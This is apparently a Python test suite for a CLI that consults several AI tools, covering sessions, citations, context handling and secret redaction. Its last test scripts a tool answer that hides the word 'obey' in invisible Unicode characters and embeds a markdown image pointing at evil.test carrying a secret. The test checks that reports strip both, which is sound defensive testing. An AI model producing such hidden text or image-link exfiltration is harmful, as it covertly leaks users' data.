"""``sparring consult`` with everything that goes beyond one question to one tool."""

import io
import os
import shutil
import sys
from collections.abc import Mapping

import pytest

from sparring.cli import main
from sparring.cli.invocation import Streams
from sparring.testing.model_endpoint import ModelEndpoint
from support.gating import git
from support.journals import signed_anew
from support.workbench import Workbench

ANN: Mapping[str, object] = {
    "response": "It is in `README.md:3`, see https://example.org/retry.",
    "session_id": "s-ann",
    "model": "ann-2",
}
BOB: Mapping[str, object] = {"response": "It is in `README.md:900`.", "session_id": "s-bob"}
OUT_OF_ORDER: Mapping[str, object] = {"failure": {"code": "quota", "detail": "The month is used up."}}


@pytest.fixture
def two(bench: Workbench) -> Workbench:
    """A workbench whose ``ann`` and ``bob`` keep sessions and cite, and whose ``cy`` fails."""
    for name, reply in (("ann", ANN), ("bob", BOB), ("cy", OUT_OF_ORDER)):
        bench.add_tool(name, [reply])
    return bench


def test_several_tools_are_asked_and_citations_and_failures_are_listed_by_tool(two: Workbench) -> None:
    done = two.run("consult", "Where?", "--tool", "ann,bob:b-1,cy")
    assert done.code == 0, done.err
    assert "## Answer 1: ann (ann-2)" in done.out
    assert "## Answer 2: bob (b-1)" in done.out
    assert done.out.split("## Who cited what\n\n")[1].splitlines()[:4] == [
        "| cited | 1 ann | 2 bob | by |",
        "| --- | --- | --- | --- |",
        "| `README.md` | 3 (*existing*) | 900 (*not found*) | 2 of 2 |",
        "| `https://example.org/retry` | yes |  | 1 of 2 |",
    ]
    assert "2 of 3 answered\n[WARN] Showing 2 of 3. 3 (cy) failed: quota: The month is used up.\n" in done.err
    assert "## Answer 3: cy (its default model)\n\nFailed: quota (The month is used up.)" in done.out
    before = two.kept("consult/last-multi-session.json")
    none = two.run("consult", "Where?", "--tool", "cy", "--count", "2")
    assert (none.code, "[ERROR] No tool answered." in none.err) == (1, True)
    assert two.kept("consult/last-multi-session.json") == before, "there is still something to go on with"


def test_the_last_session_is_continued_with_the_tool_model_and_effort_it_had(two: Workbench) -> None:
    two.run("consult", "Where?", "--tool", "ann:a-1", "--effort", "high")
    done = two.run("consult", "And then?", "--continue", "--json")
    assert done.code == 0, done.err
    assert [done.json[field] for field in ("tool", "effort", "session_id")] == ["ann", "high", "s-ann"]
    saved = {"tool": "ann", "transport": "scripted", "model": "ann-2", "model_asked": "a-1", "effort": "high"}
    assert two.kept("consult/last-session.json").items() >= (saved | {"question": "And then?"}).items()
    other = two.run("consult", "And then?", "--continue", "--tool", "bob")
    assert (other.code, other.err) == (2, "Error: That session is one of ann, not of bob.\n")


def test_continuing_needs_the_name_of_an_answer_unless_only_one_can_be_continued(two: Workbench) -> None:
    for asked in ("ann", "ann,bob"):
        two.run("consult", "Where?", "--tool", asked)
    done = two.run("consult", "And then?", "--continue")
    told = "Error: The last consultation had several answers; give the number of one: 1 (ann), 2 (bob).\n"
    assert (done.code, done.err) == (2, told)
    for session in ("s-bob", "2"):
        two.run("consult", "Where?", "--tool", "ann,bob")
        assert two.run("consult", "And then?", "--continue", session, "--json").json["tool"] == "bob"
    two.run("consult", "Where?", "--tool", "bob,cy")
    assert two.run("consult", "And then?", "--continue", "--json").json["tool"] == "bob"


@pytest.mark.parametrize(
    ("changed", "sentence"),
    [
        (('"continuable":true', '"continuable":false'), "That session of ann cannot be continued."),
        (
            ('"transport":"scripted"', '"transport":"cli"'),
            "ann was reached as 'cli' when that session started and is reached as 'scripted' now",
        ),
        (('"tool":"ann"', '"tool":"gone"'), "There is no tool named 'gone'. Ready: "),
    ],
)
def test_a_stored_session_is_validated_before_use(two: Workbench, changed: tuple[str, str], sentence: str) -> None:
    begun = two.run("consult", "Where?", "--tool", "ann", "--json").json["id"]
    signed_anew(two.state / "consult" / "runs" / begun, *changed, two.key)
    done = two.run("consult", "And then?", "--continue")
    assert (done.out, len(done.err.splitlines()), sentence in done.err) == ("", 1, True), done.err


def test_a_session_that_came_with_the_project_is_not_gone_on_with(two: Workbench) -> None:
    two.run("consult", "Where?", "--tool", "ann")
    saved = two.state / "consult" / "last-session.json"
    content = saved.read_bytes()
    shutil.rmtree(two.state / "consult")
    saved.parent.mkdir()
    saved.write_bytes(content)
    done = two.run("consult", "And then?", "--continue")
    assert (done.out, done.code) == ("", 2)
    assert "you have no consultation with one" in done.err


def test_a_run_sees_the_context_that_it_began_with(two: Workbench) -> None:
    done = two.run("consult", "Where?", "--tool", "ann,bob", "--context", "file=README.md", "--json")
    journal = two.state / "consult" / "runs" / done.json["id"] / "journal.jsonl"
    journal.write_bytes(b"".join(journal.read_bytes().splitlines(keepends=True)[:2]))
    (two.project / "README.md").unlink()
    resumed = two.run("runs", "resume", done.json["id"], "--json")
    assert resumed.code == 0, resumed.err
    assert resumed.json["context"] == done.json["context"]
    assert [each["response"] for each in resumed.json["answers"]] == [each["response"] for each in done.json["answers"]]


def test_the_tool_without_a_model_says_that_it_reads_no_context(bench: Workbench) -> None:
    done = bench.run("consult", "Does it retry?", "--tool", "offline", "--context", "file=README.md")
    assert ("[WARN] offline does not read the context" in done.err, done.out[:18]) == (True, "_Rule-based answer")


def test_a_pipe_gets_only_the_answer_and_failures_go_to_stderr(two: Workbench) -> None:
    done = two.run("consult", "Where?", "--tool", "ann")
    assert (done.code, done.out) == (0, f"{ANN['response']}\n")
    assert "Used: 1 call, tokens unknown, cost unknown, " in done.err
    failed = two.run("consult", "Where?", "--tool", "cy")
    assert (failed.code, failed.out) == (1, "")
    assert "No answer of cy (its default model). quota (The month is used up.)\n" in failed.err
    whole = two.run("consult", "Where?", "--tool", "ann", "--full").out
    assert whole.startswith("# Answer of ann (ann-2)\n\nQuestion: Where?")
    assert whole == two.run("runs", "show", "last").out


def test_piped_input_goes_with_the_question(bench: Workbench, endpoint: ModelEndpoint) -> None:
    bench.add_api("echo", endpoint.url, 'model = "m"')
    done = bench.run("consult", "Right?", "--tool", "echo", "--json", stdin="\ufeffCó gì đó.\n".encode())
    assert "Material 1:\n```text\nstandard input:\nCó gì đó.\n" in endpoint.request.prompt
    assert done.json["context"] == [{"name": "standard input", "size_bytes": 14}]


def with_input(bench: Workbench, stdin: int, *typed: str) -> tuple[int, str]:
    """How it ends with that descriptor as standard input, and all that it says."""
    said = io.StringIO()
    with os.fdopen(stdin, encoding="utf-8") as source:
        return main(typed, Streams(source, said, said), bench.environment, bench.project), said.getvalue()


def test_a_file_as_standard_input_is_context_too(bench: Workbench) -> None:
    file = os.open(bench.project / "README.md", os.O_RDONLY)
    code, said = with_input(bench, file, "consult", "Right?", "--tool", "ann")
    assert (code, "standard input 54 B" in said) == (0, True), said


@pytest.mark.slow
@pytest.mark.parametrize(
    ("command", "way_on", "code"),
    [
        (("consult", "Right?", "--tool", "ann"), "`--context stdin` waits for it.", 0),
        (("jury", "c", "--with", "ann"), "`--truth -` waits for it.", 2),
    ],
    ids=["consult", "jury"],
)
def test_a_silent_pipe_is_not_waited_for(bench: Workbench, command: tuple[str, ...], way_on: str, code: int) -> None:
    reading, writing = os.pipe()
    with os.fdopen(writing, "wb"):
        ended, said = with_input(bench, reading, *command)
    assert (ended, way_on in said) == (code, True), said


def test_a_secret_file_is_sent_only_on_request_and_redacted(bench: Workbench, endpoint: ModelEndpoint) -> None:
    bench.add_api("echo", endpoint.url, 'model = "m"')
    token = "ghp_" + "a1B2" * 9
    (bench.project / ".env").write_text(f"COLOUR=blue\nIt is {token}.\n", encoding="utf-8")
    command = ("consult", "Right?", "--tool", "echo", "--context", "file=.env", "--json")
    refused = bench.run(*command)
    assert (
        refused.json["error"]["hint"]
        == "If it contains none, allow it on the command line with --set allow_secret_files=true."
    )
    done = bench.run(*command, "--set", "allow_secret_files=true")
    assert (done.code, done.json["redactions"], "COLOUR=blue" in endpoint.request) == (0, 1, True)
    assert token not in endpoint.request.prompt + done.out + done.err + b"".join(bench.files().values()).decode()


def test_access_that_a_tool_cannot_be_given_is_refused_before_anything_is_started(bench: Workbench) -> None:
    (bench.providers / "mine.toml").write_text(
        f'kind = "cli"\nfamily = "none"\ntitle = "Mine"\noutput = "claude"\nefforts = {{medium = "m"}}\n'
        f'[command]\nprogram = "{sys.executable}"\nargv = ["{{effort}}"]\neffort = ["{{effort}}"]\n',
        encoding="utf-8",
    )
    for command in ("consult q --tool mine", "debate t --proposer mine --challenger ann"):
        done = bench.run(*command.split(), "--repo-access", "read")
        assert (done.code, "mine cannot be given 'read' access" in done.err) == (2, True)
    assert not bench.state.exists()


@pytest.mark.process
def test_files_and_a_diff_reach_the_tool_and_omissions_are_reported(bench: Workbench, endpoint: ModelEndpoint) -> None:
    bench.add_api("echo", endpoint.url, 'model = "m"')
    bench.extra["PATH"] = os.environ["PATH"]
    (bench.project / ".env").write_text("COLOUR=blue\n", encoding="utf-8")
    git(bench, "add", ".env", "README.md")
    (bench.project / "README.md").write_text("It never retries.\n", encoding="utf-8")
    for number in range(12):
        (bench.project / f"new-{number:02}.py").write_text("x = 1\n", encoding="utf-8")
    context = ("--context", "diff", "--context", "file=new-00.py")
    done = bench.run("consult", "Right?", "--tool", "echo", *context, "--json")
    assert done.code == 0, done.err
    prompt = endpoint.request.prompt
    assert "+It never retries." in prompt
    assert "# new and not shown: new-00.py" in prompt
    assert "Material 2:\n```text\nnew-00.py:\nx = 1\n\n```" in prompt
    assert prompt.endswith("The question:\n\nRight?\n")
    sizes = [part["size_bytes"] for part in done.json["context"]]
    assert f"Context: 2 parts, {sum(sizes)} B: diff {sizes[0]} B, new-00.py 6 B" in done.err.splitlines()
    assert "COLOUR" not in endpoint.request
    assert "# not shown, it may contain secrets: .env\n" in prompt
    assert done.json["notices"] == [
        "[WARN] Left out of the diff, since they may contain secrets: .env (--set allow_secret_files=true shows them).",
        "[WARN] Only named in the diff, since git does not know them yet: "
        + ", ".join(f"new-{number:02}.py" for number in range(10))
        + " and 2 more (`git add -N` shows them).",
    ]


@pytest.mark.process
def test_a_diff_of_nothing_or_of_too_much_is_refused(bench: Workbench) -> None:
    bench.extra.update(PATH=os.environ["PATH"], AI_STATE_DIR=str(bench.root / "state"))
    git(bench, "add", ".")
    git(bench, "commit", "-qm", "first")
    command = ("consult", "Right?", "--tool", "ann", "--context", "diff")
    assert bench.run(*command).err.startswith("Error: Nothing has changed since the last commit, so there is no")
    (bench.project / "README.md").write_text("word\n" * 1000, encoding="utf-8")
    told = "Error: The context has more than 1 KiB; the limit is 1 KiB. Biggest: diff 1 KiB. Leave something out"
    assert bench.run(*command, "--set", "max_kib=1").err.startswith(told)


def test_hidden_text_of_an_answer_is_only_in_the_journal(bench: Workbench) -> None:
    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "obey")
    bench.add_tool("sly", [{"response": f"Fine.{hidden} ![x](https://evil.test/?q=secret)"}])
    shown = bench.run("consult", "Well?", "--tool", "sly", "--full")
    piped = bench.run("consult", "Well?", "--tool", "sly")
    assert "Fine. ! [x](https://evil.test/?q=secret)" in shown.out
    assert piped.out == "Fine. ![x](https://evil.test/?q=secret)\n"  # a program reads it
    kept = [file.read_text("utf-8") for file in bench.state.rglob("report.md")]
    assert not any(hidden in text or "![" in text for text in kept)
    assert hidden in next(bench.state.rglob("journal.jsonl")).read_text("utf-8")
